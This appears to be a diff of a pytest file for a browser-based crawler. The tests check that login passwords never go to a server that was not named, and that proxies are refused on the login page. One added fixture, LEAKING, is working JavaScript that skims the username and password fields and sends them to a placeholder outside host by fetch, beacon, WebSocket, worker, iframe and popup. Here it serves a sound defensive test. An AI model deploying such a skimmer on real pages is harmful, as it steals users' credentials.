@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 import os
 import re
 import signal
+import time
 from collections import Counter
+from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
@@ -53,7 +56,15 @@ def asked(folder: Path, server: Server, given: str, *words: str, **page: object)
     return ended(asking(folder, server.url, server.site.options.profile, given, *words, **page))
 
 
-def asking(folder: Path, url: str, base: str, given: str, *words: str, **page: object) -> Crawling:
+def asking(
+    folder: Path,
+    url: str,
+    base: str,
+    given: str,
+    *words: str,
+    variables: Mapping[str, str] | None = None,
+    **page: object,
+) -> Crawling:
     """The same while it runs, of a server with a profile."""
     folder.mkdir(exist_ok=True)
     (folder / "asking.py").write_text(ASKING)
@@ -61,7 +72,7 @@ def asking(folder: Path, url: str, base: str, given: str, *words: str, **page: o
     return Crawling(
         folder, "runspider", "asking.py", "-a", f"url={url}", "-O", "out.jsonl", *words,
         SATCHEL_KEMONO_URL=url, SATCHEL_KEMONO_ACCOUNTS=given,
-        SATCHEL_KEMONO_PROFILE=json.dumps(profile),
+        SATCHEL_KEMONO_PROFILE=json.dumps(profile), **(variables or {}),
     )  # fmt: skip
 
 
@@ -110,8 +121,119 @@ def test_nothing_is_typed_into_the_page_of_another_server(serve: Serve, tmp_path
     assert (done.status, done.reason) == (1, "login_failed"), done.log
     says = f"leads to another server, {other.url}/account/login, which gets no password"
     assert any(says in line for line in done.lines("ERROR")), done.log
-    assert {asked.method for asked in other.sandbox.log} == {"GET"}
-    assert not other.site.logins
+    assert not other.sandbox.log
+
+
+LEAKING = """
+<script src="OTHER/script"></script>
+<form method="post" action="/307/form">
+<input name="username"><input name="password" type="password"><button>Log in</button></form>
+<iframe name="inner"></iframe>
+<script>
+const form = document.forms[0];
+const send = (action, target) => {
+  const copy = form.cloneNode(true);
+  for (const name of ["username", "password"])
+    copy.elements[name].value = form.elements[name].value;
+  Object.assign(copy, {action, target});
+  document.body.append(copy);
+  copy.submit();
+  copy.remove();
+};
+form.addEventListener("submit", () => {
+  const body = new URLSearchParams(new FormData(form));
+  const sent = {method: "POST", body, mode: "no-cors", keepalive: true};
+  fetch("/307/fetched", sent);
+  fetch("OTHER/direct", sent);
+  navigator.sendBeacon("OTHER/beacon", body);
+  new WebSocket("OTHER/socket?".replace("http", "ws") + body);
+  const words = `fetch("${location.origin}/307/worker", {method: "POST", body: "${body}"})`;
+  new Worker(URL.createObjectURL(new Blob([words])));
+  send("OTHER/frame", "inner");
+  send("/307/popup", "_blank");
+});
+</script>
+"""
+WAYS = {"script", "form", "fetched", "direct", "beacon", "socket", "worker", "frame", "popup"}
+
+
+@pytest.mark.parametrize("named", [False, True])
+def test_a_password_goes_to_no_other_server_unless_that_is_named(
+    named: bool, tmp_path: Path
+) -> None:
+    """A page that sends it to another in all ways that there are; by itself, and by redirects."""
+    came = {}
+
+    async def other(request: web.Request) -> web.Response:
+        way = request.path.strip("/")
+        if way in WAYS:  # Chromium asks for an icon, too.
+            came[way] = request.query_string + await request.text()
+        end = time.monotonic() + 10
+        while way == "form" and set(came) < WAYS and time.monotonic() < end:
+            await asyncio.sleep(0.05)  # The page lives until the crawl sees what came of it.
+        return web.Response(headers={"Access-Control-Allow-Origin": "*"})
+
+    async def page(request: web.Request) -> web.Response:
+        if request.path.startswith("/307/"):
+            to = f"{elsewhere}/{request.path.removeprefix('/307/')}"
+            answer = web.Response(status=307, headers={"Location": to})
+            answer.set_cookie("session", "given")
+            return answer
+        if request.path.startswith("/api/"):
+            return web.json_response([])
+        return web.Response(text=LEAKING.replace("OTHER", elsewhere), content_type="text/html")
+
+    with serving(other) as elsewhere, serving(page) as url:
+        given = accounts("consumer", "moderator") if named else accounts("moderator")
+        words = {"servers": [elsewhere]} if named else {}
+        done = ended(asking(tmp_path / "p", url, "classic", given, **words))
+    if named:
+        assert (done.status, done.reason) == (0, "finished"), done.log
+        assert set(came) == WAYS
+        assert all("password=" in sent for way, sent in came.items() if way != "script")
+    else:
+        assert (done.status, done.reason) == (1, "login_failed"), done.log
+        assert came == {}
+        says = f"leads to another server, {elsewhere}/"
+        assert any(says in line for line in done.lines("ERROR")), done.log
+    assert password_of(MODERATOR) not in done.log
+
+
+def test_a_page_that_needs_another_server_says_which(tmp_path: Path) -> None:
+    async def script(request: web.Request) -> web.Response:
+        return web.Response(text="document.write('<form></form>')", content_type="text/javascript")
+
+    async def page(request: web.Request) -> web.Response:
+        text = f"<script src='{elsewhere}/form.js'></script>"
+        return web.Response(text=text, content_type="text/html")
+
+    with serving(script) as elsewhere, serving(page) as url:
+        done = ended(
+            asking(
+                tmp_path / "p", url, "classic", accounts("moderator"),
+                "-s", "SATCHEL_BROWSER_SECONDS=3",
+            )
+        )  # fmt: skip
+    assert (done.status, done.reason) == (1, "login_failed"), done.log
+    says = f"(nor what it wants of {elsewhere}: login_page.servers)"
+    assert any(says in line for line in done.lines("ERROR")), done.log
+
+
+def test_a_page_to_log_in_on_is_not_opened_by_a_proxy(tmp_path: Path) -> None:
+    sent = []
+
+    async def seen(request: web.Request) -> web.Response:
+        sent.append(request.path)
+        return web.Response(text=FORM, content_type="text/html")
+
+    with serving(seen) as url:
+        crawling = asking(
+            tmp_path / "p", url, "classic", accounts("moderator"), variables={"http_proxy": url}
+        )
+        done = ended(crawling)
+    assert done.status == 1, done.log
+    assert any("is opened without a proxy" in line for line in done.lines("ERROR")), done.log
+    assert sent == []
 
 
 def test_a_login_whose_browser_is_killed_is_not_sent_again(tmp_path: Path) -> None:
